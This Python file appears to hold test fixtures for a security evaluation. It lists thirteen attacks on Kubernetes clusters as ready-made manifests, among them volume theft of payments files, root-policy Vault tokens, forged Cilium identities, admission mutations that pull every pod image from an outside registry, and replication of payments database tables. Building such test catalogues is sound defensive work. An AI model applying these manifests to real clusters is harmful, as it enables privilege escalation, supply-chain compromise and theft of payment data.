"""Attacks on clusters by rights, secrets, volumes and admission (2026-11-29, thirteenth set, blind).

Objects by the documentation of Kubernetes and of the operators; what is not marked as read is as known.
"""

from ..blind import IMAGE, TAGS, cluster_role, crd, k8s, meta
from ..harness import Given
from . import Attack

IDN = ("FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
OPEN = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-", "FJ-RES-", "FJ-ENC-")
ADMISSION = "admissionregistration.k8s.io/v1beta1"
CSR = "LS0tLS1CRUdJTiBDRVJUSUZJQ0FURSBSRVFVRVNULS0tLS0KTUlJQ1ZqQ0NBVDRDQVFBd0VURVBNQTBHQTFVRQo="
SEALED = "AgBy3i4OJSWK+PiTySYZZA9rO43cGDEq0v2hJYqbS1Rwqz1VbYxkYy8n8gR3m4bW"


def _top(kind: str, name: str, spec: object) -> Given:
    return k8s(kind, {"metadata": {"name": name, "labels": TAGS}, "spec": spec}, name)


def _files(name: str, namespace: str) -> Given:
    """Returns a volume of the files of payments that a claim of a namespace has."""
    return k8s("core/v1:PersistentVolume", {"metadata": {"name": name, "labels": TAGS}, "spec": {
        "capacity": {"storage": "100Gi"}, "accessModes": ["ReadWriteMany"], "storageClassName": "",
        "persistentVolumeReclaimPolicy": "Retain", "mountOptions": ["tls"],
        "claimRef": {"namespace": namespace, "name": "files"}, "csi": {
            "driver": "efs.csi.aws.com",
            "volumeHandle": "fs-0a1b2c3d4e5f60718::fsap-0b1c2d3e4f5061728"}}}, name)  # fmt: skip


SWAP = (
    "[JSONPatch{op: 'replace', path: '/spec/containers/0/image', "
    "value: 'registry.collector.io/' + object.spec.containers[0].image}]"
)
VAULT = {"server": "https://vault.security.svc.cluster.local:8200", "auth": {"kubernetes": {
    "mountPath": "kubernetes", "role": "team-a", "serviceAccountRef": {"name": "app"}}}}  # fmt: skip
JOINED = {
    "metadata": {"labels": {**TAGS, "argocd.argoproj.io/secret-type": "cluster"}},
    "data": {"name": "{{ .name }}", "server": "{{ .server }}", "config": "{{ .config }}"},
}
LITTLE = {"requests": {"cpu": "1", "memory": "2Gi"}, "limits": {"cpu": "1", "memory": "2Gi"}}

ATTACKS = (
    Attack("the files of payments are a second volume, which a team claims", IDN, (
        _files("payments-files", "payments"), _files("team-a-files", "team-a")),
        "critical", "the team reads and writes each file of payments (Kubernetes, 'Persistent Volumes', reserving a "
        "volume; Amazon EFS CSI driver, 'Static provisioning': the handle names the file system)"),
    Attack("a role says which pod has which identity in the network", IDN, (cluster_role(
        {"apiGroups": ["cilium.io"], "resources": ["ciliumendpoints", "ciliumidentities"],
         "verbs": ["get", "list", "create", "update", "patch"]}),),
        "critical", "a pod of one's own gets the labels of payments, and policies let it in (Cilium, "
        "'Identity-Relevant Labels'; 'Threat Model', a compromised account of the agent)"),
    Attack("a cluster that Argo CD deploys to is filled from a vault", IDN, (
        k8s("external-secrets.io/v1:ExternalSecret", {"metadata": meta("edge", "argocd"), "spec": {
            "refreshInterval": "1h", "secretStoreRef": {"name": "vault", "kind": "SecretStore"},
            "target": {"name": "edge", "template": JOINED}, "data": [
                {"secretKey": key, "remoteRef": {"key": "team-a/edge", "property": key}}
                for key in ("name", "server", "config")]}}),),
        "major", "whoever writes the entry of the vault says which cluster gets the objects and secrets of each "
        "application, and no evaluation sees it (Argo CD, 'Declarative Setup', clusters)"),
    Attack("a team's secret is a token of the vault with the policy of root", IDN, (
        crd("generators.external-secrets.io/v1alpha1:VaultDynamicSecret", {
            "path": "/auth/token/create", "method": "POST",
            "parameters": {"policies": ["root"], "no_parent": True, "ttl": "0"},
            "resultType": "Auth", "provider": VAULT}),),
        "critical", "the team reads and writes each secret of the bank (External Secrets, 'Vault Dynamic Secret', read "
        "2026-11-29; Vault, 'Token auth method API', create)"),
    Attack("a sealed secret becomes the lasting token of the account of deployments", IDN, (
        k8s("bitnami.com/v1alpha1:SealedSecret", {"metadata": meta("deployer"), "spec": {
            "encryptedData": {"note": SEALED}, "template": {
                "type": "kubernetes.io/service-account-token",
                "metadata": {"labels": TAGS, "annotations": {
                    "kubernetes.io/service-account.name": "deployer"}}}}}),),
        "major", "the token never expires, and whoever reads the secret has it (Sealed Secrets, README, template; "
        "Kubernetes, 'Managing Service Accounts', long-lived token)"),
    Attack("what a backup of payments holds gets a signed address", OPEN, (
        k8s("velero.io/v1:DownloadRequest", {"metadata": meta("payments", "velero"), "spec": {
            "target": {"kind": "BackupContents", "name": "payments-nightly"}}}),),
        "major", "whoever reads the state of the object downloads each secret and object of payments without signing "
        "in (Velero, 'API types', DownloadRequest)"),
    Attack("an admission policy takes the image of each pod from a stranger", IDN, (
        _top(f"{ADMISSION}:MutatingAdmissionPolicy", "mirror", {
            "failurePolicy": "Fail", "reinvocationPolicy": "IfNeeded", "matchConstraints": {"resourceRules": [{
                "apiGroups": [""], "apiVersions": ["v1"], "operations": ["CREATE"], "resources": ["pods"]}]},
            "matchConditions": [{"name": "not-yet", "expression":
                                 "!object.spec.containers[0].image.startsWith('registry.collector.io/')"}],
            "mutations": [{"patchType": "JSONPatch", "jsonPatch": {"expression": SWAP}}]}),
        _top(f"{ADMISSION}:MutatingAdmissionPolicyBinding", "mirror-all", {"policyName": "mirror"})),
        "critical", "programs of the stranger run with the accounts and volumes of every pod (Kubernetes, 'Mutating "
        "Admission Policy')"),
    Attack("Gatekeeper changes the host of each image", IDN, (
        _top("mutations.gatekeeper.sh/v1alpha1:AssignImage", "mirror", {
            "applyTo": [{"groups": [""], "kinds": ["Pod"], "versions": ["v1"]}],
            "location": "spec.containers[name:*].image", "parameters": {"assignDomain": "registry.collector.io"},
            "match": {"source": "All", "scope": "Namespaced", "kinds": [{"apiGroups": ["*"], "kinds": ["Pod"]}]}}),),
        "critical", "programs of the stranger run with the accounts and volumes of every pod (Gatekeeper, 'Mutation', "
        "AssignImage)"),
    Attack("a team asks for an authority by a request without a certificate", IDN, (
        crd("cert-manager.io/v1:CertificateRequest", {
            "request": CSR, "isCA": True, "usages": ["digital signature", "cert sign", "crl sign"],
            "duration": "87600h", "issuerRef": {"name": "internal", "kind": "ClusterIssuer"}}),),
        "critical", "with the key, which only the team has, it signs certificates of every service (cert-manager, "
        "'CertificateRequest resource')"),
    Attack("an identity of the network is written with the labels of payments", IDN, (
        k8s("cilium.io/v2:CiliumIdentity", {
            "metadata": {"name": "51234", "labels": {**TAGS, "io.kubernetes.pod.namespace": "payments"}},
            "security-labels": {
                "k8s:app": "ledger", "k8s:io.cilium.k8s.policy.cluster": "default",
                "k8s:io.cilium.k8s.policy.serviceaccount": "ledger",
                "k8s:io.kubernetes.pod.namespace": "payments"}}, "51234"),),
        "critical", "policies that let in payments let in what carries the number (Cilium, 'Terminology', identity; "
        "CRD of CiliumIdentity)"),
    Attack("tables of payments are replicated into the database of a team", OPEN, (
        crd("postgresql.cnpg.io/v1:Cluster", {
            "instances": 3, "inheritedMetadata": {"labels": TAGS}, "resources": LITTLE,
            "storage": {"size": "50Gi", "storageClass": "encrypted"}, "externalClusters": [{
                "name": "payments", "connectionParameters": {
                    "host": "ledger-rw.payments.svc", "user": "app", "dbname": "app", "sslmode": "verify-full"},
                "password": {"name": "ledger", "key": "password"},
                "sslRootCert": {"name": "ledger-ca", "key": "ca.crt"}}]}, "pg"),
        k8s("postgresql.cnpg.io/v1:Subscription", {"metadata": meta("ledger"), "spec": {
            "cluster": {"name": "pg"}, "dbname": "app", "name": "ledger", "publicationName": "all",
            "externalClusterName": "payments"}}, "ledger")),
        "major", "each row of payments is the team's within seconds (CloudNativePG, 'Logical Replication', "
        "Subscription)"),
    Attack("clients of Kafka may do everything while the server of rights is away", OPEN, (
        k8s("kafka.strimzi.io/v1beta2:Kafka", {
            "metadata": meta("ledger", "payments", annotations={"strimzi.io/node-pools": "enabled"}),
            "spec": {"kafka": {
                "version": "3.9.0", "template": {"pod": {"metadata": {"labels": TAGS}}}, "resources": LITTLE,
                "listeners": [{"name": "tls", "port": 9093, "type": "internal", "tls": True,
                               "authentication": {"type": "tls"}}],
                "authorization": {
                    "type": "opa", "url": "https://opa.payments.svc:8181/v1/data/kafka/authz/allow",
                    "allowOnError": True}}}}),),
        "major", "whoever overloads the server of rights reads and writes each topic (Strimzi, "
        "'KafkaAuthorizationOpa schema', allowOnError)"),
    Attack("models of every team are fetched from the store of one team", OPEN, (
        _top("serving.kserve.io/v1alpha1:ClusterStorageContainer", "models", {
            "container": {
                "name": "storage-initializer", "image": IMAGE, "resources": LITTLE,
                "env": [{"name": "AWS_ENDPOINT_URL", "value": "https://store.team-a.svc.cluster.local:9000"}],
                "securityContext": {"allowPrivilegeEscalation": False, "runAsNonRoot": True,
                                    "capabilities": {"drop": ["ALL"]}}},
            "supportedUriFormats": [{"prefix": "s3://"}], "workloadType": "initContainer"}),),
        "critical", "the team says which model each server loads, and gets the keys of their stores (KServe, 'Storage "
        "Containers', read 2026-11-29)"),
)  # fmt: skip
